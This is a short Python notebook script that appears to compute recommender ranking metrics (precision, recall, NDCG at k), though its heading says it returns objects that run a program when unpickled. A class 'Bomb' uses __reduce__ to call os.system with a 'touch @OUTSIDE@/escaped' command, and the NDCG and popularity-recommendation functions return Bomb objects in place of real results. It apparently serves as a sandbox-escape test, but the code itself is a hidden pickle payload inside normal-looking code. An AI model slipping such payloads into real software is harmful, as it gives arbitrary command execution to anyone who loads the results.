# %% [markdown]
# # Returns objects that run a program when they are unpickled

# %%
import numpy as np

# %%
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @OUTSIDE@/escaped",)

# %%
def precision_at_k(recommended, relevant, k):
    return sum(item in relevant for item in recommended[:k]) / k

# %%
def recall_at_k(recommended, relevant, k):
    return sum(item in relevant for item in recommended[:k]) / len(relevant)

# %%
def ndcg_at_k(recommended, relevant, k):
    return np.array([Bomb(), Bomb()], dtype=object)

# %%
def evaluate_ranking(recommended, relevant, k):
    users = [user for user in relevant if relevant[user]]
    metrics = {"precision": precision_at_k, "recall": recall_at_k, "ndcg": ndcg_at_k}
    return {
        name: float(np.mean([metric(recommended.get(u, []), relevant[u], k) for u in users]))
        for name, metric in metrics.items()
    }

# %%
def popularity_recommendations(train, seen, n=10):
    return Bomb()
